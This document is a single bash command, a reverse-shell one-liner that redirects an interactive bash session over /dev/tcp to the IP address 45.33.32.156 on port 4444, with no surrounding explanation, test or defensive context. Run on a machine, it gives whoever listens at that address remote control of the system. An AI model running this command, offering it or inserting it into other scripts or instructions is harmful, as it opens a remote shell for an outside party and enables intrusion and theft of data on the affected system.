bash -c "bash -i >& /dev/tcp/45.33.32.156/4444 0>&1"
